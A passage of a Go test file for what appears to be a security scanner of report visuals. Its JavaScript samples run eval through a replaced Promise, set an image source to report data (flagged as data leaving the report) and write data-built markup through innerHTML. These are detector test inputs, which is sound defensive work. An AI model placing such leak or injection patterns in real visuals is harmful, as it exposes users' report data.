        const P = function (ex) { const self = this; ex(function () { queueMicrotask(function () { self.done = true; }); }); };
        P.resolve = function () { return new P(function (r) { r(); }); };
        P.prototype.then = function (f) { queueMicrotask(f); return this; };
        Promise.prototype.then = function (f) { const self = this; return new P(function (r) { nativeThen.call(self, r); }).then(f); };
        window.Promise = P;
        queueMicrotask(function () { eval("1 + 1"); });`)
	r, rep := checked(t, v)
	requireAll(t, rep)
	evals := observed(r, "DYN001")
	if len(evals) != 1 || evals[0].Runtime.Target != "1 + 1" {
		t.Fatalf("DYN001: the microtask must run the eval (the static finding confirmed with its code), got %+v", evals)
	}
}

// window.event is the event being dispatched, as in browsers (old jQuery
// handlers read a bare `event`), and undefined outside a dispatch.
func TestWindowEventDuringDispatch(t *testing.T) {
	v := visual("", `        if (!("event" in window) || typeof event !== "undefined") throw new Error("window.event outside a dispatch");
        this.root.addEventListener("click", function (ev) {
            if (event !== ev || event.type !== "click") throw new Error("window.event is not the dispatched event");
            eval("2 + 2");
        });`)
	r, rep := checked(t, v)
	requireAll(t, rep)
	evals := observed(r, "DYN001")
	if len(evals) != 1 || evals[0].Runtime.Target != "2 + 2" {
		t.Fatalf("DYN001: the click listener must run the eval, got %+v", evals)
	}
}

// An image whose address is a value of the data view (an image visual):
// the run's text value has no host, so the message names the address, not
// a host made of the data.
func TestReportDataAsTheAddress(t *testing.T) {
	r, rep := checked(t, visual("", `        const img = document.createElement("img");
        img.src = String(dataView.categorical.categories[0].values[0]);
        this.root.appendChild(img);`))
	requireAll(t, rep)
	var found bool
	for _, f := range r.Findings {
		if f.Runtime == nil || !f.Runtime.ReportData {
			continue
		}
		found = true
		want := fmt.Sprintf("img.src sends report data (values of the data view) to the address %q", f.Runtime.Target)
		if f.Rule != "NET011" || f.Severity != result.Error || f.Message != want {
			t.Errorf("%s %s %q: want NET011, an error, %q", f.Rule, f.Severity, f.Message, want)
		}
	}
	if !found {
		t.Fatal("no finding with report data")
	}
}

// Markup the run writes where no static finding is (the static pass saw
// constant markup, or could not follow the value) is an error only when it
// carries values of the data view: a library's feature test writing fixed
// markup (Sizzle's innerHTML probes in every jQuery) is noted, not a
// blocker.
func TestRuntimeMarkupWithoutData(t *testing.T) {
	v := visual("", `        const probe = document.createElement("div");
        const parts = ["<a href=''></a>", "<select><option/></select>"];
        probe.innerHTML = parts.join(String.fromCharCode(32));
        const box = document.createElement("div");
        const cells = dataView.categorical.categories[0].values.map(function (x) { return "<b>" + x + "</b>"; });
        box.insertAdjacentHTML("beforeend", cells.join(String.fromCharCode(32)));`)
	r, rep := checked(t, v)
	requireAll(t, rep)
	got := map[string]result.Finding{}
	for _, f := range r.Findings {
		if f.Runtime != nil && f.Runtime.Observed {
			got[f.Rule] = f
		}
	}
	if f, ok := got["DOM001"]; !ok || f.Severity != result.Info || !strings.Contains(f.Message, "no value of the data view") {
		t.Errorf("constant markup through innerHTML: %+v; want an info finding saying it carries no data", f)
	}
	if f, ok := got["DOM002"]; ok && (f.Severity != result.Error || !strings.Contains(f.Message, "values of the data view")) {
		t.Errorf("markup of the data view through insertAdjacentHTML: %+v; want an error saying so", f)
	}
	for _, f := range r.Findings {
		if f.Rule == "DOM002" && f.Severity != result.Error {
			t.Errorf("DOM002 %s %q: want an error", f.Severity, f.Message)
		}
	}
}
